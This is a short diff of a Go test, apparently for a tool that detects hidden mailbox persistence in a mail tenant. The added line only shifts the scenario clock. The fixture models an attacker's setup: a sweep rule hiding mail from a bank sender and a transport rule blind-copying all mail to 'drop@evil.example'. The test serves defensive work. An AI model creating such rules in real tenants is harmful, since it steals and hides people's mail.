@@ -35,6 +35,7 @@ func TestHiddenPersistence(t *testing.T) {
 	s := raise(t, scenery{})
 	scene := s.scene(0)
 	victim, upn, tn := scene.Victim, scene.Victim.UPN, scene.Tenant
+	scene.Date(scene.Started.Add(2 * time.Minute))
 	victim.AddSweep(tenant.Sweep{Name: "Tidy", Sender: "bank@partner.example"})
 	tn.AddTransportRule(tenant.TransportRule{Name: "Copy all", By: upn, More: map[string]any{"BlindCopyTo": []string{"drop@evil.example"}}})
 	tn.AddTransportRule(tenant.TransportRule{Name: "Disclaimer", By: scene.Admin.UPN})
